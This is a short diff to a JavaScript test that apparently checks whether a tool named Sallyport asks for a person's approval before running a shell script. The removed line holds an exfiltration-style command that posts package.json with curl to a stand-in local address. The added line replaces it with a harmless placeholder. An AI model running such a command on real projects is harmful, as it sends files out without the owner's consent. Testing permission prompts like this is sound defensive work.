@@ -149,7 +149,7 @@ for (const [title, script, project] of [
       afterAll(() => other.remove())
 
       test(`what asks ${runs ? 'runs' : 'does not run'}`, async () => {
-        const ran = await other.run({ script: [shell('curl -d @package.json http://127.0.0.1:1; touch asked.txt')] })
+        const ran = await other.run({ script: [shell('some-tool; touch asked.txt')] })
         expect(ran.out).toContain('Sallyport asks: ')
         expect(ran.has('asked.txt')).toBe(runs)
         if (!runs) expect(ran.results.join()).toContain('The person at the prompt said no. Sallyport asks about this')
